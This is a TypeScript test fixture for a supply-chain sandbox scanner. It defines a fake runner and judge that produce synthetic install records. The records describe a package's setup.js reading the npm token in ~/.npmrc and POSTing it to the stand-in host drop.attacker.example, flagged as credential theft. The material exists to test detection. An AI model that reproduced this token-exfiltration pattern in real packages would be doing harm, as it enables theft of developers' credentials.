import { SluiceError } from '../../src/core/errors.ts'
import type { SandboxPolicy } from '../../src/core/cascade.ts'
import type { Finding, FoundIndicator } from '../../src/core/types.ts'
import type { RecordJudge, Runner, RunOptions, RunTarget } from '../../src/ports/runner.ts'
import type { SandboxParts } from '../../src/sandbox/gate/room.ts'
import { together } from '../../src/sandbox/gate/runs-packages.ts'
import type { SandboxRecord } from '../../src/sandbox/record.ts'

export const SANDBOX_POLICY: SandboxPolicy = {
  suspicious: 'hold', undetermined: 'hold', watched: 'hold', newHooks: 'hold', firstHooks: 'hold', nearly: 'hold', malicious: 'off', sample: { share: 0, runs: 'behind' }, young: 7 * 86_400_000, unavailable: 'hold',
}

/** What a fake run sees: files of the package are never looked at. */
export interface Sight {
  /** What the judge says of it; a severity. */
  does?: 'critical' | 'medium'
  /** Hosts that it reached. */
  reaches?: readonly string[]
  missing?: readonly string[]
  throws?: Error
}

/** A runner that runs nothing: it waits until it is let go, and sees what the test says of a package. */
export interface FakeRunner extends SandboxParts {
  /** In the order in which they were begun. */
  readonly begun: RunTarget[]
  readonly options: RunOptions[]
  sees: Map<string, Sight>
  works: boolean
  /** Every run waits from now on, until `go`. */
  stop(): void
  go(): void
  versionOf: { runner: string; judge: string }
  /** The judge finds nothing in any record, whatever stands in it. */
  forgives: boolean
}

export function fakeRunner(settings: Partial<SandboxParts['settings']> = {}): FakeRunner {
  let gate: { open: Promise<void>; go: () => void } | null = null
  const runner: Runner = {
    get version() { return fake.versionOf.runner },
    probe: () => Promise.resolve([{ backend: 'fake', works: fake.works, version: '1', weaker: [], says: fake.works ? null : 'it is not installed', remedy: fake.works ? null : 'install it' }]),
    async run(target, options) {
      if (!fake.works) throw new SluiceError('sandbox-unavailable', 'it is not installed')
      fake.begun.push(target)
      fake.options.push(options)
      if (gate) await Promise.race([gate.open, new Promise((_, reject) => options.signal.addEventListener('abort', () => reject(options.signal.reason as Error)))])
      const sight = fake.sees.get(target.ref.name) ?? {}
      if (sight.throws) throw sight.throws
      return recordOf(target, sight)
    },
  }
  const judge: RecordJudge = {
    get version() { return fake.versionOf.judge },
    judge: (record) => {
      const { does } = fake.forgives ? {} : sightIn(record)
      return [{ detector: 'sends-what-it-read', version: 1, status: 'ok', findings: does ? [findingOf(does)] : [] }]
    },
    indicators: (record) => (sightIn(record).reaches ?? []).map((value): FoundIndicator => ({ type: 'domain', value, file: 'setup.js', line: 1 })),
  }
  const fake: FakeRunner = {
    begun: [], options: [], sees: new Map(), works: true, versionOf: { runner: 'fake@1', judge: 'judge@1' }, forgives: false,
    settings: { mode: 'auto', backend: null, budget: { anHour: 100, atOnce: 2 }, passes: ['laptop'], time: 5_000, ...settings },
    runs: together(runner, judge),
    stop() {
      const { promise, resolve } = Promise.withResolvers<void>()
      gate = { open: promise, go: resolve }
    },
    go() {
      gate?.go()
      gate = null
    },
  }
  return fake
}

const findingOf = (severity: Finding['severity']): Finding => ({
  detector: 'sends-what-it-read', behaviour: 'credential-theft', severity, confidence: 1, title: 'sends the npm token it read to drop.attacker.example',
  evidence: [{ file: 'setup.js', lines: [1, 1], excerpt: 'POST https://drop.attacker.example/', says: 'the token of ~/.npmrc was in the body', role: 'sink' }],
})

/** What the record of a fake run says was seen. */
const sightIn = ({ phases }: SandboxRecord): Sight => JSON.parse(new TextDecoder().decode(phases[0]?.stderr)) as Sight

export function recordOf({ ref, digest }: Pick<RunTarget, 'ref' | 'digest'>, { missing = [], does, reaches }: Sight = {}): SandboxRecord {
  const bytes = new TextEncoder().encode('done\n')
  return {
    ref, digest, backend: 'fake', startedAt: new Date('2026-06-10T12:00:00Z'), elapsedMs: 1_200, passes: ['laptop'], missing,
    phases: [{
      pass: 'laptop', phase: 'install', status: 'completed', says: null, exit: 0, elapsedMs: 900, stdout: bytes, stderr: new TextEncoder().encode(JSON.stringify({ does, reaches })),
      processes: [{ pid: 2, parent: null, argv: ['node', 'setup.js'], program: '/usr/bin/node', cwd: '/work', started: 1, ended: 900, exit: 0, signal: null }],
      acts: [
        { kind: 'read', at: 10, pid: 2, target: '/home/dev/.npmrc', done: true, seen: ['call', 'hook'], by: { package: ref.name, file: 'setup.js', line: 1, column: 4 } },
        { kind: 'request', at: 20, pid: 2, target: 'https://drop.attacker.example/', method: 'POST', done: true, sample: bytes, honey: [{ token: 'npm-token', encodings: [], where: 'body' }], seen: ['wire'], by: null },
      ],
      disk: [{ path: '/home/dev/.x', what: 'created', kind: 'file', size: 5, mode: 0o644, sha256: 'a'.repeat(64), content: bytes }],
      dropped: {},
    }],
  }
}
